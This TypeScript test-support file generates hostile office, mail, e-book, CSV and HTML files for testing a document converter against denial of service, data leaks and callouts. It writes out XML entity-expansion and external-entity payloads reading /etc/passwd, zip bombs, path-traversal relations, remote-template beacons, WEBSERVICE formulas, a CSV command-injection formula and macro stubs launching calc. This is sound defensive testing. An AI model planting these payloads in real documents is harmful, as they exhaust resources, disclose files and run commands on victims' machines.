import type { TypesetFormatId } from 'contract/formats';
import { columnName } from '../sheets/column-name.ts';
import { madeHostileMails } from '../mail/made-hostile-mails.test-support.ts';
import { madeHostileMedia } from '../media/made-hostile-media.test-support.ts';
import { madeHostileOldFiles } from '../old-office/made-hostile-old-files.test-support.ts';
import { madeHostilePictures } from '../pictures/made-hostile-pictures.test-support.ts';
import {
  madeChart,
  madeDiagram,
  madeDocx,
  madeOpenDocument,
  madePptx,
  madeRelations,
  madeXlsx,
  madeZip,
} from './made-package.test-support.ts';

export interface HostileFile {
  readonly what: string;
  readonly format: TypesetFormatId;
  readonly content: string | Buffer;
}

const LAUGHS = Array.from({ length: 9 }, (_none, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join('');
const withEntities = (entities: string, body: string) => `<!DOCTYPE x [${entities}]>${body}`;

/**
 * Files made to keep a reader busy, to fill its memory or to make it call out. `size` scales them: 1 for tests, more for measuring.
 * Each ends as pages or with a reason; nothing that they name is fetched, and nothing in them is run.
 *
 * @param address what those that call out call
 */
export function madeHostileFiles(size: number, address = 'http://127.0.0.1:9'): readonly HostileFile[] {
  const word = (body: string, head = '') =>
    madeZip({
      'word/document.xml': `${head}<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>`,
    });
  return [
    {
      what: 'entities that multiply',
      format: 'docx',
      content: word('<w:p><w:r><w:t>&e9;</w:t></w:r></w:p>', withEntities(`<!ENTITY e0 "ha">${LAUGHS}`, '')),
    },
    {
      what: 'an entity from outside',
      format: 'docx',
      content: word('<w:p><w:r><w:t>a &x; b</w:t></w:r></w:p>', withEntities('<!ENTITY x SYSTEM "file:///etc/passwd">', '')),
    },
    { what: 'a zip bomb', format: 'docx', content: word(' '.repeat(18_000_000 * size)) },
    { what: 'tables in tables', format: 'docx', content: word('<w:tbl><w:tr><w:tc>'.repeat(5_000 * size)) },
    { what: 'paragraphs in paragraphs', format: 'docx', content: word('<w:p>'.repeat(400) + '<w:r><w:t>x</w:t></w:r>') },
    {
      what: 'a row of many cells',
      format: 'docx',
      content: word(`<w:tbl><w:tr>${'<w:tc/>'.repeat(20_000 * size)}</w:tr></w:tbl>`),
    },
    {
      what: 'pictures and templates from outside',
      format: 'docx',
      content: madeDocx(
        '<w:p><w:r><w:t>Seen</w:t><w:drawing><a:blip r:embed="rId1" r:link="rId1"/></w:drawing></w:r></w:p>',
        { 'word/_rels/settings.xml.rels': madeRelations({ rId1: ['attachedTemplate', `${address}/evil.dotm`] }) },
        { rId1: ['image', `${address}/pixel.png`] },
      ),
    },
    {
      what: 'macros',
      format: 'docx',
      content: madeDocx('<w:p><w:r><w:t>Seen</w:t></w:r></w:p>', { 'word/vbaProject.bin': 'Shell "calc.exe"' }),
    },
    {
      what: 'a part that leads out of the package',
      format: 'docx',
      content: madeZip({
        '_rels/.rels': madeRelations({ rId1: ['officeDocument', '../../../../etc/passwd'] }),
        'word/document.xml': '<a/>',
      }),
    },
    {
      what: 'a picture that says it is huge',
      format: 'docx',
      content: madeDocx(
        '<w:p><w:r><w:t>Seen</w:t><w:drawing><a:blip r:embed="rId1"/></w:drawing></w:r></w:p>',
        { 'word/a.png': hugePicture() },
        { rId1: ['image', 'a.png'] },
      ),
    },
    {
      what: 'a chart of series without an end and a diagram that goes round',
      format: 'docx',
      content: madeDocx(
        '<w:p><w:r><w:drawing><c:chart r:id="rId1"/><dgm:relIds r:dm="rId2"/><c:chart r:id="rId3"/></w:drawing></w:r></w:p>',
        {
          'word/chart1.xml': madeChart('Endless', ['a'], Object.fromEntries(seriesOf(5_000 * size))),
          'word/data1.xml': madeDiagram([
            ['Egg', 'Hen'],
            ['Hen', 'Egg'],
          ]),
        },
        { rId1: ['chart', 'chart1.xml'], rId2: ['diagramData', 'data1.xml'], rId3: ['chart', `${address}/chart.xml`] },
      ),
    },
    { what: 'a formula that calls out', format: 'xlsx', content: madeXlsx({ A: formulaTo(address) }) },
    { what: 'cells in far corners', format: 'xlsx', content: madeXlsx({ A: FAR }) },
    {
      what: 'columns without an end',
      format: 'xlsx',
      content: madeXlsx({ A: `<row>${'<c><v>1</v></c>'.repeat(2_000 * size)}</row>` }),
    },
    {
      what: 'a reference that no sheet has',
      format: 'xlsx',
      content: madeXlsx({
        A: '<row r="1e300"><c r="ZZZZZZZZZ1" t="s"><v>-1</v></c><c r="A1" s="1e9"><v>1e999</v></c><c><v>7</v></c></row>',
      }),
    },
    {
      what: 'a format of nothing but brackets',
      format: 'xlsx',
      content: madeXlsx(
        { A: '<row><c s="0"><v>1</v></c><c><v>2</v></c></row>' },
        {
          'xl/styles.xml': `<styleSheet><numFmts><numFmt numFmtId="170" formatCode="${'[&quot;'.repeat(50_000 * size)}"/></numFmts><cellXfs><xf numFmtId="170"/></cellXfs></styleSheet>`,
        },
      ),
    },
    {
      what: 'a format of six thousand letters in every cell',
      format: 'xlsx',
      content: madeXlsx(
        { A: `<row>${'<c s="0"><v>46000</v></c>'.repeat(20)}</row>`.repeat(1_000 * size) },
        {
          'xl/styles.xml': `<styleSheet><numFmts><numFmt numFmtId="170" formatCode="d${'-'.repeat(6_000)}"/></numFmts><cellXfs><xf numFmtId="170"/></cellXfs></styleSheet>`,
        },
      ),
    },
    {
      what: 'each row in a column of its own',
      format: 'xlsx',
      content: madeXlsx({
        A: Array.from({ length: 2_000 * size }, (_none, index) => `<row><c r="${columnName(index)}1"><v>1</v></c></row>`).join(
          '',
        ),
      }),
    },
    { what: 'groups in groups', format: 'pptx', content: madePptx(['<p:grpSp>'.repeat(5_000 * size)]) },
    { what: 'slides that lead out of the package', format: 'pptx', content: madePptx([], LEADING_OUT) },
    {
      what: 'lists in lists',
      format: 'odt',
      content: madeOpenDocument('text', '<text:list><text:list-item>'.repeat(5_000 * size)),
    },
    {
      what: 'cells repeated without an end',
      format: 'ods',
      content: madeOpenDocument(
        'spreadsheet',
        '<table:table><table:table-row table:number-rows-repeated="1e9"><table:table-cell table:number-columns-repeated="1e9"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
      ),
    },
    {
      what: 'spaces without an end',
      format: 'odt',
      content: madeOpenDocument('text', '<text:p>x<text:s text:c="1e300"/></text:p>'),
    },
    {
      what: 'entities that multiply',
      format: 'odp',
      content: madeZip({
        mimetype: 'application/vnd.oasis.opendocument.presentation',
        'content.xml': withEntities(`<!ENTITY e0 "ha">${LAUGHS}`, '<x>&e9;</x>'),
      }),
    },
    {
      what: 'groups in groups',
      format: 'odp',
      content: madeOpenDocument('presentation', '<draw:page><draw:g>'.repeat(5_000 * size)),
    },
    {
      what: 'slides without an end',
      format: 'odp',
      content: madeOpenDocument('presentation', '<draw:page/>'.repeat(2_000 * size)),
    },
    { what: 'a zip bomb', format: 'odp', content: madeOpenDocument('presentation', ' '.repeat(18_000_000 * size)) },
    {
      what: 'a slide that calls out',
      format: 'odp',
      content: madeOpenDocument('presentation', CALLING_SLIDE(address), { parts: MACROS }),
    },
    {
      what: 'pictures from outside',
      format: 'odt',
      content: madeOpenDocument('text', `<text:p>Seen</text:p>${CALLING_FRAME(address)}`),
    },
    {
      what: 'a formula that calls out',
      format: 'ods',
      content: madeOpenDocument(
        'spreadsheet',
        `<table:table><table:table-row><table:table-cell table:formula="of:=WEBSERVICE(&quot;${address}/&quot;)"><text:p>saved</text:p></table:table-cell></table:table-row></table:table>`,
      ),
    },
    { what: 'a book that names a part outside', format: 'epub', content: madeZip(bookOf(address)) },
    { what: 'groups in groups', format: 'rtf', content: `{\\rtf1 ${'{\\b '.repeat(9_000)}x` },
    { what: 'a length that is a lie', format: 'rtf', content: '{\\rtf1 {\\pict\\bin99999999999 x}} seen' },
    {
      what: 'a picture of endless digits',
      format: 'rtf',
      content: `{\\rtf1 seen{\\pict\\pngblip ${'89504e470d0a1a0a'.repeat(20_000 * size)}}`,
    },
    {
      what: 'a picture that says it is huge',
      format: 'html',
      content: `seen<img src="data:image/png;base64,${hugePicture().toString('base64')}">`,
    },
    {
      what: 'pictures without an end',
      format: 'html',
      content: `seen${'<img src="data:image/gif;base64,R0lGODlh">'.repeat(2_000 * size)}`,
    },
    {
      what: 'a page that calls out',
      format: 'html',
      content: `<base href="${address}/"><link rel="stylesheet" href="a.css"><script src="a.js"></script><p>Seen<img src="p.gif"><object data="o.swf"></object>`,
    },
    { what: 'pictures from outside', format: 'markdown', content: `Seen ![x](${address}/p.png) <img src="${address}/q.png">` },
    {
      what: 'fields that call out',
      format: 'rtf',
      content: `{\\rtf1 seen{\\field{\\*\\fldinst INCLUDEPICTURE "${address}/p.png"}}{\\object\\objlink{\\*\\objdata 0105}}{\\*\\template ${address}/t.dotm}}`,
    },
    { what: 'formulas that call out', format: 'csv', content: `a,b\n=WEBSERVICE("${address}/"),=cmd|'/c calc'!A1\n` },
    { what: 'rows without an end', format: 'rtf', content: `{\\rtf1 ${'\\intbl a\\cell\\row '.repeat(5_000 * size)}}` },
    { what: 'parts in parts', format: 'eml', content: partsInParts(3_000 * size) },
    { what: 'boundaries alone', format: 'eml', content: `${MIXED}${'--b\n'.repeat(50_000 * size)}` },
    { what: 'white space without an end', format: 'eml', content: `${QUOTED}${' '.repeat(300_000 * size)}x` },
    { what: 'a head without an end', format: 'eml', content: `From: a\nSubject: ${'=?utf-8?q?a?= '.repeat(20_000 * size)}` },
    { what: 'a page that calls out', format: 'eml', content: beaconTo(address) },
    { what: 'mails of one line', format: 'mbox', content: 'From x\n\n'.repeat(2_000 * size) },
    { what: 'one endless line', format: 'csv', content: 'a,'.repeat(3_000 * size) },
    { what: 'quotes without an end', format: 'csv', content: '"a,"'.repeat(30_000 * size) },
    ...madeHostileMails(size, address).map((file) => ({ ...file, format: 'msg' }) as const),
    ...madeHostileOldFiles(size),
    ...madeHostilePictures(size),
    ...madeHostileMedia(size),
  ];
}

const seriesOf = (count: number) => Array.from({ length: count }, (_none, at) => [`s${at}`, [at]] as const);
const formulaTo = (address: string) => `<row><c t="str"><f>WEBSERVICE("${address}/"&amp;A2)</f><v>saved</v></c></row>`;
const FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>';

const MIXED = 'From: a\nContent-Type: multipart/mixed; boundary=b\n\n';
const QUOTED = 'From: a\nContent-Transfer-Encoding: quoted-printable\n\n';
const beaconTo = (address: string) =>
  `From: a\nContent-Type: text/html\n\n<p>Seen<img src="${address}/p.gif"><iframe src="file:///etc/passwd"></iframe>`;
const CALLING_FRAME = (address: string) =>
  `<draw:frame><draw:image xlink:href="${address}/p.png" xlink:show="embed" xlink:actuate="onLoad"/><draw:object xlink:href="${address}/o"/></draw:frame>`;
const CALLING_SLIDE = (address: string) =>
  `<draw:page draw:name="One"><draw:frame><draw:text-box><text:p>Seen</text:p></draw:text-box></draw:frame>${CALLING_FRAME(address)}</draw:page>`;
const MACROS = { 'Basic/Standard/Module1.xml': '<script:module xmlns:script="s">Shell("calc")</script:module>' };
const LEADING_OUT = {
  'ppt/presentation.xml': '<p:presentation xmlns:p="p" xmlns:r="r"><p:sldId r:id="rId1"/></p:presentation>',
  'ppt/_rels/presentation.xml.rels': madeRelations({ rId1: ['slide', '../../../../etc/passwd'] }),
};
const bookOf = (address: string) => ({
  mimetype: 'application/epub+zip',
  'META-INF/container.xml': '<rootfile full-path="book.opf"/>',
  'book.opf': `<package><item id="a" href="../../../etc/passwd" media-type="text/html"/><item id="b" href="${address}/" media-type="text/html"/><itemref idref="a"/><itemref idref="b"/></package>`,
});

const partsInParts = (depth: number): string =>
  `From: a\n${Array.from({ length: depth }, (_none, part) => `Content-Type: multipart/mixed; boundary=b${part}\n\n--b${part}\n`).join('')}\nx`;

/** The head of a PNG of 60,000 by 60,000 pixels, and nothing behind it. */
function hugePicture(): Buffer {
  const bytes = Buffer.alloc(64);
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]).copy(bytes);
  bytes.write('IHDR', 12);
  bytes.writeUInt32BE(60_000, 16);
  bytes.writeUInt32BE(60_000, 20);
  bytes.set([8, 6], 24);
  return bytes;
}
